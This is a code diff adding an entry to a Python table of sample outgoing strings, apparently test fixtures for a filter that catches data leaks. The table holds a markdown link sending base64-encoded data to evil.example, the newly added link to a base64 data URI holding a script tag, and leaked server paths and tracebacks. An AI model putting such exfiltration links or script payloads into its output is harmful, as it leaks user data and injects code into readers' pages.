@@ -96,6 +96,9 @@ _OUTGOING: Mapping[str, str] = {
     "exfiltration.link": (
         "[more](https://evil.example/p?d=QWxpY2Ugc2VjcmV0IGRhdGEgaXMgaGVyZSBhbmQgbG9uZw)"
     ),
+    "exfiltration.data_uri": (
+        "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
+    ),
     "internal.path": "see /srv/app/releases/current/config/settings.py on the server",
     "internal.trace": (
         "Traceback (most recent call last):\n"
